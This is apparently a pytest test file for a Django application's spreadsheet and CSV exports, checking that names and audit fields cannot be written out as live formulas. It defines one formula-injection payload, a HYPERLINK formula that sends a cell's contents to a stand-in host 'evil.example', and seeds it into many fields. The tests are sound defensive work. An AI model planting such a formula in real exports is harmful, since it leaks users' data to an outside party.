"""Every text written to a spreadsheet or a CSV file is text, whatever field it comes from:
the exports are read with every field a person can name poisoned with a formula."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse

from core.spreadsheets import FORMULA_STARTS, as_text
from governance.models import AuditEvent, Committee, Organization, OrgUnit
from incidents.models import RootCause
from measures.models import Countermeasure, Perspective, StoredState
from reports.context import report_xlsx
from tests.conftest import read

POISON = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_that_would_start_a_formula_is_written_as_text(start):
    assert as_text(f"{start}1+1") == f"'{start}1+1"
    assert as_text("対策") == "対策"
    assert as_text(3) == 3
    assert as_text(None) is None


@pytest.fixture
def poisoned(seed):
    """Every name a person can give, on the PG side, poisoned (past the services: the
    point is the writer, whatever let the text in)."""
    pg = Organization.objects.get(code="chubu-pg")
    Organization.objects.filter(pk=pg.pk).update(name=POISON, short_name=POISON)
    Perspective.objects.filter(organization=pg).update(name=POISON)
    OrgUnit.objects.filter(organization=pg).update(name=POISON)
    RootCause.objects.filter(organization=pg).update(title=POISON)
    Countermeasure.objects.filter(organization=pg).update(
        title=POISON, owner_label=POISON, owner_unit=None
    )
    # The events are append-only: the wording read is the stored one.
    StoredState.objects.filter(measure__organization=pg).update(phrase=POISON)
    Committee.objects.update(name=POISON)
    return pg


def _cells(book) -> list:
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula(cells) -> None:
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert any(POISON in t for t in texts), "the poison was not exported at all"
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [t for t in texts if t[:1] in FORMULA_STARTS] == []


def test_the_measure_export_holds_no_formula(poisoned, client_for):
    response = client_for("pg_second").get(reverse("measure-export"), {"as_of": "2023-05-12"})
    _no_formula(_cells(openpyxl.load_workbook(io.BytesIO(read(response)))))


def test_the_report_tables_hold_no_formula(poisoned):
    committee = Committee.objects.get(code="neutrality")
    book = openpyxl.load_workbook(
        io.BytesIO(report_xlsx(committee=committee, as_of=dt.date(2023, 5, 12)))
    )
    _no_formula(_cells(book))


def test_the_audit_export_holds_no_formula(people, client_for):
    AuditEvent.objects.create(
        action=AuditEvent.Action.VIEWED,
        actor=people["pg_second"],
        organization=Organization.objects.get(code="chubu-pg"),
        object_type="measures.Countermeasure",
        object_id="1",
        object_repr=POISON,
        user_agent=POISON,
        details={"note": POISON},
    )
    response = client_for("pg_auditor").get(reverse("audit-export"))
    table = list(csv.reader(io.StringIO(read(response).decode("utf-8").lstrip("\ufeff"))))
    texts = [value for row in table for value in row]
    assert any(POISON in t for t in texts)
    assert [t for t in texts if t[:1] in FORMULA_STARTS] == []
